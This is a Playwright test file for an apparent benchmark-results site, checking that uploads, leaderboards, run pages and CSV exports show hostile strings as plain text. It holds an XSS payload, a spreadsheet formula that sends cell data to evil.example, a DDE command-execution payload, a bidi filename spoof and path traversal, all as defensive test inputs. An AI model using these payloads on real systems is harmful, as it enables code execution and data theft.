import { expect, type Page } from "@playwright/test";
import { encryptedEntry } from "./encrypted-entry.ts";
import { test } from "./fixtures.ts";
import { halUpload } from "./hal-upload.ts";
import { runText } from "./run-text.ts";
import { zipOf } from "./zip-of.ts";

const script = `<script>globalThis.pwned=1</script><img src=x onerror="globalThis.pwned=1">`;
const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`;
const at = "@SUM(1+1)*cmd|' /C calc'!A0";
const bidi = "safe\u202eexe.cod\u2066";
const long = `long-${"wide".repeat(200)}`;
const task = `../../${script}?a=1#b%2f`;

const header = {
  run_id: script,
  task_set: { name: "set", version: formula },
  plan: { tasks: [task, bidi, long], trials: 1 },
  system: {
    model: script,
    model_organization: at,
    agent: formula,
    agent_version: bidi,
    reasoning_effort: long,
    submitting_organization: "+1-800-CALL",
    settings: { [script]: script },
  },
  measurement: { scorer: at, scorer_version: bidi, mode: "solo", user_simulator: long },
  reported: [{ metric: script, value: 12, unit: "percent", notes: [script] }],
  notes: { [script]: script },
};
const event = { producer: "agent", phase: "live", kind: "message", text: script, name: script };
const call = { ...event, kind: "tool_call", arguments: { [script]: script } };
const episodes = [
  { task, scorer: { ran: true }, score: { value: 1 }, termination: script, events: [event, call] },
  { task: bidi, scorer: { ran: true }, score: { value: "</td>" }, termination: formula },
  { task: long, scorer: { ran: false }, score: { value: 0, evidence: [script] } },
];

/** Nothing ran, nothing was built from the text, and it is there to be read. */
async function expectHarmless(page: Page): Promise<void> {
  await expect(page.getByRole("main")).toContainText(script);
  expect(await page.evaluate(() => "pwned" in globalThis)).toBe(false);
  expect(await page.evaluate(() => [...document.images].map(({ src }) => src))).toEqual([]);
  const width = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth);
  expect(width, "sideways scrolling").toBeLessThanOrEqual(0);
}

/** What turns the reading direction stands in an element of its own that ends the turn. */
async function expectIsolated(page: Page): Promise<void> {
  const { found, loose } = await page.evaluate(() => {
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const parents: Element[] = [];
    for (let node = walker.nextNode(); node !== null; node = walker.nextNode()) {
      const { parentElement } = node;
      if (node.nodeValue?.includes("\u202e") === true && parentElement !== null) {
        parents.push(parentElement);
      }
    }
    const shown = parents.filter((parent) => parent.closest("script, option") === null);
    const isLoose = (parent: Element) => parent.closest("bdi, [dir=auto]") === null;
    return { found: shown.length, loose: shown.filter(isLoose).map((parent) => parent.outerHTML) };
  });
  expect(found, "texts that turn the reading direction").toBeGreaterThan(0);
  expect(loose, "such texts that turn what follows them").toEqual([]);
}

test.describe.configure({ mode: "serial" });

test("a preview, a board, a run and an episode show hostile texts as texts", async ({
  page,
  program,
}) => {
  test.slow();
  const fileName = `${script}.jsonl`;
  const text = runText("hostile", episodes, header);
  await page.goto("/submit");
  await page.getByLabel("Files or an archive").setInputFiles({
    name: fileName,
    mimeType: "application/json",
    buffer: Buffer.from(text),
  });
  await expect(page.getByRole("heading", { name: "What was understood" })).toBeVisible();
  await expectHarmless(page);
  await expectIsolated(page);

  const [run] = await program.published(fileName, text);
  await page.goto("/boards/hostile-set");
  const open = page.getByRole("rowheader").getByRole("link", { name: script });
  await expectHarmless(page);
  await expectIsolated(page);
  await open.click();
  await expect(page.getByRole("heading", { name: "Evidence" })).toBeVisible();
  await expectHarmless(page);
  await expectIsolated(page);
  await page.goto(`/runs/${run}`);
  await expectHarmless(page);
  await expectIsolated(page);
  await page.getByRole("table").getByRole("link", { name: "../../" }).click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText("../../");
  await expectHarmless(page);
  await expectIsolated(page);
});

test("the same on a phone", async ({ page }) => {
  await page.setViewportSize({ width: 360, height: 740 });
  await page.goto("/boards/hostile-set");
  await expectHarmless(page);
});

/** A HAL archive whose every name is hostile: agent, run, model, tools, tasks, spans and responses. */
function hostileUpload(): string {
  const names = {
    "gpt-4.1-2025-04-14": `${bidi}${script}`,
    get_user_details: script,
    "made up": formula,
    '"r1"': `"${script}"`,
    '"bb"': `"${bidi}"`,
    '"1"': `"${task}"`,
  };
  return Object.entries(names)
    .reduce((text, [name, hostile]) => {
      return text.replaceAll(
        name,
        JSON.stringify(hostile)
          .slice(1, -1)
          .replaceAll(/^\\"|\\"$/g, '"'),
      );
    }, halUpload("HAL-NAME"))
    .replaceAll("HAL-NAME", JSON.stringify(script).slice(1, -1));
}

test("preview, ledger and timelines of a decrypted HAL run show hostile texts as texts", async ({
  page,
}) => {
  test.slow();
  const body = Buffer.from(encryptedEntry(hostileUpload(), "hal1234"));
  await page.goto("/submit");
  await page.getByLabel("Files or an archive").setInputFiles({
    name: `${script}.zip`,
    mimeType: "application/zip",
    buffer: zipOf({ "<b>made-up</b>_UPLOAD.json.encrypted": body }),
  });
  await expect(page.getByRole("heading", { name: "What was understood" })).toBeVisible();
  await expectHarmless(page);
  await expectIsolated(page);
  await page.getByRole("button", { name: "Publish" }).click();
  await expect(page.getByRole("status").filter({ hasText: /^Published\./ })).toBeVisible();

  await page.getByRole("link", { name: script }).first().click();
  await expect(page.getByRole("region", { name: "What was billed" })).toBeVisible();
  await page.getByText("The spans (3 of 3)").click();
  await expectHarmless(page);
  await expectIsolated(page);
  await page.goto(`${page.url()}/episodes/0/0`);
  await expect(page.getByText(/^5 archived actions: /)).toBeVisible();
  await expectHarmless(page);
});

test("a spreadsheet takes no cell of the CSV for a formula", async ({ request }) => {
  const csv = await (await request.get("/api/v1/boards/hostile-set/csv")).text();

  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
  expect(csv).toContain(`'@SUM(1+1)*cmd|' /C calc'!A0`);
  expect(csv).toContain("'+1-800-CALL");
  const starts = csv
    .split(/\r\n|,(?=(?:[^"]*"[^"]*")*[^"]*$)/)
    .map((cell) => cell.replace(/^"/, ""));
  expect(starts.filter((cell) => /^[=+@\t-]/.test(cell))).toEqual([]);
});
